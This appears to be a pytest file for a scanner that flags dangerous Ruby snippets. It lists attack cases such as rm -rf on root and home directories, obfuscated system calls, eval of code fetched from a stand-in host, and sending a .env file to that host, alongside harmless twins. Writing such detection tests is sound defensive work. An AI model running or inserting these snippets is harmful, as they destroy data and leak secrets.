"""What ruby snippets do, and their harmless twins."""

from __future__ import annotations

from collections.abc import Callable

import pytest

LANGUAGE = "ruby"
SCRIPTS = {"/w/helper.py": "pass"}
ATTACKS = [
    ("FileUtils.rm_rf('/home/user')", "delete /home/user R"),
    ("`rm #{x}`", "shell rm \x00"),
    ("system('rm','-rf','/')", "argv rm -rf /"),
    ("%x(rm q)", "shell rm q"),
    ("File.delete('a','b')", "delete /w/b"),
    ("Dir.glob('/tmp/*').each { |f| File.delete f }", "delete /tmp/* G"),
    ("%w[a b].each { |f| File.unlink(f) }", "delete /w/b"),
    ("Kernel.send(:system,'rm')", "shell rm"),
    ("method(:system).call('y')", "shell y"),
    ("Object.const_get('File').delete('z')", "delete /w/z"),
    ("eval('sys'+'tem(1)')", "code ruby system(1)"),
    ("require 'open-uri'; eval(URI.open('http://e').read)", "run-fetched http://e"),
    ("open('|ls')", "shell ls"),
    ("Net::HTTP.post(URI('http://e'), File.read('.env'))", "send http://e </w/.env"),
    ("def f(p) FileUtils.rm_r(p) end; f('/a')", "delete /a R"),
    ("system <<~E\n  rm #{x}\nE\nputs 1", "shell \n  rm \x00\n"),
    ("class A; def initialize(p); @p=p; end; def go; File.delete(@p); end; end; A.new('/z').go", "delete /z"),
    ("FileUtils.rm_rf(File.expand_path('~/x'))", "delete /home/u/x R"),
    ("['726d'].pack('H*').then { |c| system(c) }", "shell rm"),
    ("Pathname.new('/a').join('b').rmtree", "delete /a/b R"),
    ("a = []; a << 'rm'; a << 'x'; system(*a)", "argv rm x"),
    ("system('y') if a", "shell y"),
]
HARMLESS = ["puts 'rm -rf /'", "# system('rm')\nx = 1", "h = {}; h.delete('x'); [1].delete(1)", 'x = "`rm`"; x.length']


@pytest.mark.parametrize(("source", "expected"), ATTACKS)
def test_found(brief_of: Callable[..., set[str]], source: str, expected: str) -> None:
    assert expected in brief_of(LANGUAGE, source, ("A1", "A2") if "A1" in expected else (), scripts=SCRIPTS)


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless(brief_of: Callable[..., set[str]], source: str) -> None:
    assert brief_of(LANGUAGE, source) == set()
